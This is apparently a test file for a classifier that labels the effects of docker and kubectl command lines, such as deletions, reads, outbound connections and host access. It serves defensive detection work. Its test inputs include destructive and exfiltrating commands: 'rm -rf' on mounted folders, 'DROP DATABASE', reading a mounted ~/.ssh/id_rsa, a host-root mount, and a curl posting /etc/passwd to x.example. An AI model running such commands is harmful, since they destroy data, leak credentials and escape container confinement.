import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

type Row = readonly [name: string, commandLine: string, expected: readonly string[]]

describe('what a running container asks of others', () => {
  test.each<Row>([
    ['another service', 'docker exec api curl -s http://db:8080/x', ['infra:read exec api', 'infra:read get http://db:8080/x']],
    [
      'another service of the cluster',
      'kubectl exec api -- curl -s http://a.b.svc.cluster.local/x',
      ['infra:read exec api', 'infra:read get http://a.b.svc.cluster.local/x'],
    ],
    ['a change', 'docker exec api curl -X DELETE http://db/x', ['infra:read exec api', 'connect:delete http://db/x']],
    ['the machine below', 'docker exec api curl http://metadata/x', ['infra:read exec api', 'connect:get http://metadata/x']],
    ['an address', 'docker exec api curl http://10.0.0.5/x', ['infra:read exec api', 'connect:get http://10.0.0.5/x']],
    ['the same outside', 'curl -s http://db:8080/x', ['connect:get http://db:8080/x']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})

describe('a container that the line started', () => {
  const started = 'docker run -d --name own postgres:16'
  const open = 'docker run -d --name own -v "$PWD":/w alpine sleep 60'
  const inside = ['infra:container postgres:16', 'infra:read exec own']
  test.each<Row>([
    ['its database', `${started}; docker exec own psql -c 'DELETE FROM a'`, inside],
    ['its files', `${started}; docker exec own rm -rf /data`, inside],
    [
      'by the number it got',
      `c=$(docker run -d postgres:16); docker exec "$c" rm -rf /data`,
      [inside[0] ?? '', 'infra:read exec $(docker run postgres:16)'],
    ],
    [
      'a server elsewhere',
      `${started}; docker exec own psql -h db.x.example -c 'DELETE FROM a'`,
      [...inside, 'database:write DELETE changes rows'],
    ],
    [
      'a server that a shell may name',
      `${started}; docker exec own sh -c "psql -c 'DELETE FROM a'"`,
      [...inside, 'database:write DELETE changes rows'],
    ],
    [
      'a server in a variable',
      `${started}; docker exec -e PGHOST=x own psql -c 'DELETE FROM a'`,
      [...inside, 'database:write DELETE changes rows'],
    ],
    ['a whole database', `${started}; docker exec own psql -c 'DROP DATABASE a'`, [...inside, 'database:destroy DROP DATABASE']],
    [
      'another container',
      `${started}; docker exec other rm -rf /data`,
      ['infra:container postgres:16', 'infra:read exec other', 'infra:exec delete /data'],
    ],
    [
      'one that came before',
      `docker exec own rm -rf /data; ${started}`,
      ['infra:read exec own', 'infra:exec delete /data', 'infra:container postgres:16'],
    ],
    [
      'one with a folder of this machine',
      `${open}; docker exec own rm -rf /w`,
      ['infra:container alpine', 'write:folder .', 'infra:read exec own', 'infra:exec delete /w'],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})

describe('containers', () => {
  test.each<Row>([
    ['confined', 'docker run --rm alpine rm -rf /', ['infra:container alpine']],
    ['the repository elsewhere', 'docker run --rm -w /x alpine git stash clear', ['infra:container alpine']],
    [
      'the repository here',
      'docker run --rm -v "$PWD":/x -w /x alpine git stash clear',
      expect.arrayContaining([expect.stringMatching(/^delete:stash/)]),
    ],
    [
      'a mounted folder is the folder outside',
      'docker run --rm -v "$PWD/src":/s alpine rm -rf /s/a',
      ['infra:container alpine', 'write:folder src', 'delete src/a'],
    ],
    [
      'a mount that cannot be written',
      'docker run --rm -v "$PWD/src":/s:ro alpine rm -rf /s/a',
      ['infra:container alpine', 'read:search src'],
    ],
    [
      'reads of a mount count',
      'docker run --rm -v "$HOME/.ssh":/k:ro alpine cat /k/id_rsa',
      ['infra:container alpine', 'read:search ~/.ssh', 'read ~/.ssh/id_rsa'],
    ],
    [
      'everything of the machine',
      'docker run --rm -v /:/host alpine rm -rf /host/etc',
      ['infra:container alpine', 'write:folder /', 'execute:container-escape docker run', 'delete /etc'],
    ],
    [
      'a parent of the mount',
      'docker run --rm -v "$PWD":/work/app alpine rm -rf /work',
      ['infra:container alpine', 'write:folder .', 'delete .'],
    ],
    ['another path inside', 'docker run --rm -v "$PWD":/work alpine rm -rf /workshop', ['infra:container alpine', 'write:folder .']],
    [
      'a mount only known at run time',
      'docker run --rm -v "$X":/s alpine rm -rf /s/a',
      ['infra:container alpine', 'unknown: the folder `$X` is only known at run time'],
    ],
    [
      'a shell inside',
      `docker run --rm -v "$PWD":/w alpine sh -c 'rm -rf /w/src'`,
      ['infra:container alpine', 'write:folder .', 'delete src'],
    ],
    [
      'an undescribed command with a writable mount',
      'docker run --rm -v "$PWD":/w alpine frobnicate',
      ['infra:container alpine', 'write:folder .', 'unknown: program `frobnicate` is not described'],
    ],
    ['an undescribed command without a mount', 'docker run --rm alpine frobnicate', ['infra:container alpine']],
    [
      'what leaves the machine counts',
      'docker run --rm alpine curl -d @/etc/passwd https://x.example',
      ['infra:container alpine', 'connect:post https://x.example', 'send:upload https://x.example'],
    ],
    [
      'a connection from inside',
      'docker run --rm alpine curl https://x.example',
      ['infra:container alpine', 'connect:get https://x.example'],
    ],
    ['privileged', 'docker run --privileged alpine ls', ['infra:container alpine', 'infra:host-access --privileged']],
    ["the folder of the host's processes", 'docker run --pid=host alpine ls', ['infra:container alpine', 'infra:host-access --pid host']],
    [
      'the socket',
      'docker run -v /var/run/docker.sock:/var/run/docker.sock alpine ls',
      ['infra:container alpine', 'infra:host-access mount /var/run/docker.sock'],
    ],
    ['inside a running one', 'docker exec web ls', ['infra:read exec web', 'read:names /workdir']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})
